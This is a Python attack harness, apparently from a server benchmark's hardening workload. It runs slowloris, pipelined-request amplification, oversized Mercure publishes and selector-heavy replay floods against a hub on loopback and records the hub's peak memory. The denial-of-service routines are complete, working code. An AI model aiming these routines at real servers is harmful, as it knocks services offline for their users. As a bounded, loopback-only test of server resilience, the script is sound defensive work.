#!/usr/bin/env python3
"""The attacks of workload W9, run against a peer while sluice-bench measures its delivery
latency: what one anonymous client can do to a hub, from the hardening issue.

- amplification: connections that each send one 64 KiB burst of pipelined requests for the
  demo page and never read the answers;
- slowloris: connections that send a request head one line every two seconds, never finishing;
- huge history (Mercure peers, --publish-url): 200 KiB updates published to a topic nobody reads;
- replay (Mercure peers, --subscribe-url): resumes from 'earliest' with 256 selectors that match
  nothing, over and over.

It samples the peer's RSS (--pids) every 200 ms and prints one JSON object when --seconds pass
or on SIGTERM: peak RSS and what each attack got done. Loopback only; bounded by --seconds.
"""
import argparse
import asyncio
import json
import signal
import urllib.parse

AMPLIFY_CONNECTIONS = 40
SLOWLORIS_CONNECTIONS = 500
HUGE_UPDATE = 200 * 1024
HUGE_PER_SECOND = 20
REPLAY_TASKS = 4
REPLAY_SELECTORS = 256


def rss_kb(pids):
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1])
        except OSError:
            pass
    return total


class Attack:
    def __init__(self, args):
        self.args = args
        self.stats = {"peak_rss_kb": 0, "amplify_connections": 0, "slowloris_open": 0, "slowloris_peak": 0,
                      "slowloris_lines": 0, "huge_published": 0, "huge_refused": 0,
                      "replays": 0, "replays_refused": 0}
        self.stop = asyncio.Event()

    async def sample(self):
        while not self.stop.is_set():
            self.stats["peak_rss_kb"] = max(self.stats["peak_rss_kb"], rss_kb(self.args.pids))
            await asyncio.sleep(0.2)

    async def amplify(self):
        burst = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
        burst = burst * (65536 // len(burst))
        writers = []
        for _ in range(AMPLIFY_CONNECTIONS):
            try:
                _, w = await asyncio.open_connection(self.args.host, self.args.port)
                w.write(burst)
                writers.append(w)
                self.stats["amplify_connections"] += 1
            except OSError:
                pass
        await self.stop.wait()
        for w in writers:
            w.transport.abort()

    async def slowloris_one(self):
        while not self.stop.is_set():
            try:
                _, w = await asyncio.open_connection(self.args.host, self.args.port)
            except OSError:
                await asyncio.sleep(0.5)
                continue
            self.stats["slowloris_open"] += 1
            self.stats["slowloris_peak"] = max(self.stats["slowloris_peak"],
                                               self.stats["slowloris_open"])
            try:
                w.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
                while not self.stop.is_set():
                    await asyncio.sleep(2)
                    w.write(b"X-Slow: 1\r\n")
                    await w.drain()
                    self.stats["slowloris_lines"] += 1
            except OSError:
                pass
            finally:
                self.stats["slowloris_open"] -= 1
                w.transport.abort()

    async def request(self, head, body=b""):
        """Sends one request on a new connection; returns the status code (0 on failure)."""
        try:
            r, w = await asyncio.open_connection(self.args.host, self.args.port)
        except OSError:
            return 0
        try:
            w.write(head + body)
            line = await asyncio.wait_for(r.readline(), 10)
            return int(line.split()[1]) if line.startswith(b"HTTP/") else 0
        except (OSError, asyncio.TimeoutError, ValueError, IndexError):
            return 0
        finally:
            w.transport.abort()

    async def huge_history(self):
        u = urllib.parse.urlsplit(self.args.publish_url)
        data = "x" * HUGE_UPDATE
        body = urllib.parse.urlencode({"topic": "urn:attack:nobody", "data": data}).encode()
        head = (f"POST {u.path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                f"Authorization: Bearer {self.args.token}\r\n"
                f"Content-Type: application/x-www-form-urlencoded\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode()
        while not self.stop.is_set():
            status = await self.request(head, body)
            self.stats["huge_published" if status == 200 else "huge_refused"] += 1
            await asyncio.sleep(1 / HUGE_PER_SECOND)

    async def replay_one(self):
        u = urllib.parse.urlsplit(self.args.subscribe_url)
        query = urllib.parse.urlencode([("match", f"n{k}") for k in range(REPLAY_SELECTORS)] +
                                       [("last_event_id", "earliest")])
        head = f"GET {u.path}?{query} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        while not self.stop.is_set():
            status = await self.request(head)
            self.stats["replays" if status == 200 else "replays_refused"] += 1

    async def run(self):
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, self.stop.set)
        tasks = [asyncio.create_task(self.sample()), asyncio.create_task(self.amplify())]
        tasks += [asyncio.create_task(self.slowloris_one()) for _ in range(SLOWLORIS_CONNECTIONS)]
        if self.args.publish_url and self.args.token:
            tasks.append(asyncio.create_task(self.huge_history()))
        if self.args.subscribe_url:
            tasks += [asyncio.create_task(self.replay_one()) for _ in range(REPLAY_TASKS)]
        try:
            await asyncio.wait_for(self.stop.wait(), self.args.seconds)
        except asyncio.TimeoutError:
            self.stop.set()
        await asyncio.wait(tasks, timeout=15)
        for task in tasks:
            task.cancel()
        print(json.dumps(self.stats), flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pids", type=lambda s: [int(p) for p in s.split(",") if p], default=[])
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--publish-url", default="")
    ap.add_argument("--subscribe-url", default="")
    ap.add_argument("--token", default="")
    args = ap.parse_args()
    if args.host not in ("127.0.0.1", "localhost", "::1") and not args.host.startswith("127."):
        raise SystemExit("attacker.py: loopback only")
    asyncio.run(Attack(args).run())


if __name__ == "__main__":
    main()
